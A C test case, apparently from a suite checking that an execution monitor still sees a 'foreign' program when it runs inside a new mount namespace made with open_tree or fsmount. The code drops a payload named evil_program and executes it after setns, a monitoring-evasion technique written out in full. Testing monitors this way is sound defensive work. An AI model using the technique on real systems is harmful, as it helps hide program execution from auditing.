/*
 * Linux 7 makes mount namespaces in more places: open_tree(2) with OPEN_TREE_NAMESPACE, and fsmount(2)
 * with FSMOUNT_NAMESPACE. Argument: open_tree or fsmount. Must be seen: the foreign program's digest.
 */
#include "attack.h"

#define OPEN_TREE_NAMESPACE 2
#define FSMOUNT_NAMESPACE 2

ATTACK(namespace_of_a_tree)
{
	size_t size = evil_program_end - evil_program;
	int fd, fs;

	write_file("/tmp/evil", evil_program, size, 0755);
	truth("/tmp/evil");
	if (geteuid() == 0 && unshare(CLONE_NEWUSER) < 0 && errno != EPERM)
		must(-1, "unshare");
	if (is_mode(argv, "open_tree")) {
		fd = syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_NAMESPACE | AT_RECURSIVE | O_CLOEXEC);
	} else {
		fs = must(syscall(SYS_fsopen, "tmpfs", 0), "fsopen");
		must(syscall(SYS_fsconfig, fs, 6, 0, 0, 0), "fsconfig");
		fd = syscall(SYS_fsmount, fs, FSMOUNT_NAMESPACE, 0);
	}
	if (fd < 0 && errno == EINVAL)
		absent(argv[0]);
	must(fd, argv[0]);
	must(setns(fd, CLONE_NEWNS), "setns");
	if (!is_mode(argv, "open_tree"))
		write_file("/evil", evil_program, size, 0755);
	execute(is_mode(argv, "open_tree") ? "/tmp/evil" : "/evil");
	return 0;
}
